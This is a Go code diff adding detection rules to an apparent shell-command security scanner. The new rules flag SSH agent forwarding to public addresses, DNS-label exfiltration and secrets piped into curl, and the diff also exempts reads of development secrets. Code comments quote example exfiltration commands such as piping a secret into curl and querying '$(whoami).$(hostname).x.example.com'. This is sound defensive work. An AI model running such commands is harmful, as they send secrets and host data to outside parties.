@@ -115,6 +115,34 @@ var exfiltrationRules = []*rule{
 			}
 			return false, ""
 		}},
+	{ID: "ssh-agent-forwarded-unknown", Level: LevelCritical, Category: CategoryExfiltration, Description: "forwarding the SSH agent to a machine known only by its address (it can use every loaded key while connected)",
+		Suggestions: []string{"Connect without -A", "Use ProxyJump for bastions instead of agent forwarding"}, names: names("ssh", "autossh", "mosh"),
+		match: func(a *analysis, c *cmd) (bool, string) {
+			args := c.args()
+			fwd := false
+			for i, w := range args {
+				l := lower(strings.ReplaceAll(w.s, " ", ""))
+				if w.s == "-A" || len(w.s) > 2 && w.s[0] == '-' && w.s[1] != '-' && isLetters(w.s[1:]) && strings.IndexByte(w.s, 'A') > 0 && !strings.ContainsAny(w.s[1:], "bcDEeFIiJLlmOoPpQRSWw") ||
+					strings.HasPrefix(l, "-oforwardagent=yes") || w.s == "-o" && i+1 < len(args) && strings.EqualFold(strings.ReplaceAll(args[i+1].s, " ", "="), "ForwardAgent=yes") {
+					fwd = true
+				}
+			}
+			if !fwd {
+				return false, ""
+			}
+			ops := posArgs(args, optSpec{short: "bcDEeFIiJLlmOoPpQRSWw"})
+			if len(ops) == 0 {
+				return false, ""
+			}
+			host := ops[0].s
+			if _, h, ok := strings.Cut(host, "@"); ok {
+				host = h
+			}
+			if isPublicIP(host) {
+				return true, host
+			}
+			return false, ""
+		}},
 	{ID: "exfil-upload-data", Level: LevelHigh, Category: CategoryExfiltration, Description: "uploading system data (users, history)",
 		Suggestions: suggExfil, names: netSinks,
 		match: func(a *analysis, c *cmd) (bool, string) {
@@ -135,12 +163,25 @@ var exfiltrationRules = []*rule{
 				if f.kind == flowSecret {
 					return true, f.what
 				}
+				if f.what == stdinOfParent && c.in.kind == flowSecret {
+					return true, c.in.what // secret | curl -d "$(cat)"
+				}
 			}
 			for _, w := range c.args() {
 				// xargs -I{} curl 'https://host/?d={}': what is read
 				// goes into the request
 				if w.flow != nil && w.flow.kind == flowSecret && c.xargs {
 					return true, w.flow.what
+				}
+			}
+			return false, ""
+		}},
+	{ID: "dns-label-exfil", Level: LevelCritical, Category: CategoryExfiltration, Description: "looking up a name built from command output under someone's domain (the data leaves as DNS queries)",
+		Suggestions: suggExfil, names: names("dig", "nslookup", "host", "drill", "ping", "ping6", "resolvectl", "getent", "kdig", "delv"),
+		match: func(a *analysis, c *cmd) (bool, string) {
+			for _, w := range c.args() {
+				if !w.ok && computedLabels(w.s) {
+					return true, w.s
 				}
 			}
 			return false, ""
@@ -370,7 +411,7 @@ var exfiltrationRules = []*rule{
 			if a.wantOut > 0 || c.pipe != nil && c.stage < len(c.pipe)-1 || len(c.redirs) > 0 {
 				return false, "" // handed to a program or a file
 			}
-			if what := storedSecretRead(c); what != "" {
+			if what := storedSecretRead(c); what != "" && !devSecretRef(c) {
 				return true, what
 			}
 			for _, s := range c.pipe[:min(c.stage, len(c.pipe))] {
@@ -439,7 +480,7 @@ var exfiltrationRules = []*rule{
 		Suggestions: []string{"Mount the secret into the workload instead of reading it", "Check only that the key exists (kubectl describe secret)"}, names: names("kubectl", "oc"),
 		match: func(a *analysis, c *cmd) (bool, string) {
 			args := c.args()
-			if len(args) < 2 || args[0].s != "get" || !strings.HasPrefix(args[1].s, "secret") {
+			if len(args) < 2 || args[0].s != "get" || !strings.HasPrefix(args[1].s, "secret") || devSecretRef(c) {
 				return false, ""
 			}
 			o, _ := optValue(args, "-o", "output")
@@ -660,4 +701,51 @@ func databaseFile(p string) bool {
 // a secret listing (gci env: | ? Name -match 'TOKEN|SECRET').
 func secretsPicked(a *analysis, c *cmd) bool {
 	return c.in.kind == flowSecret && a.wantOut == 0 && (secretPattern(joinWords(c.args())) || strings.Contains(lower(joinWords(c.args())), "key"))
+}
+
+// devSecretRef reports a secret read that names, by its path, name or
+// namespace, a development or test environment and nothing shared: the
+// values a developer's own setup uses, read to configure it.
+func devSecretRef(c *cmd) bool {
+	dev := false
+	for _, w := range c.args() {
+		if !w.ok {
+			continue
+		}
+		l := lower(w.s)
+		if isProdName(w.s) || strings.Contains(l, "staging") || strings.Contains(l, "shared") || strings.Contains(l, "admin") || strings.Contains(l, "root") {
+			return false
+		}
+		for _, t := range nameWords(w.s) {
+			switch t {
+			case "dev", "development", "local", "test", "testing", "sandbox":
+				dev = true
+			}
+		}
+	}
+	return dev
+}
+
+// computedLabels reports a host name whose leading labels are computed
+// ($(whoami).$(hostname).x.example.com, $SECRET.x.example.com) under a
+// fixed domain of two labels or more: the computed part is what is sent.
+func computedLabels(s string) bool {
+	i := strings.LastIndexAny(s, "$`…)}")
+	if i < 0 || !strings.Contains(s[:i+1], "$") && !strings.Contains(s[:i+1], "`") {
+		return false
+	}
+	dom := strings.TrimPrefix(s[i+1:], ".")
+	if strings.Count(dom, ".") < 1 || strings.ContainsAny(dom, "/:@ ") || dom == "" {
+		return false
+	}
+	for _, l := range strings.Split(dom, ".") {
+		if l == "" {
+			return false
+		}
+	}
+	switch lower(dom[strings.LastIndexByte(dom, '.')+1:]) {
+	case "local", "internal", "lan", "localhost", "home", "arpa":
+		return false
+	}
+	return true
 }
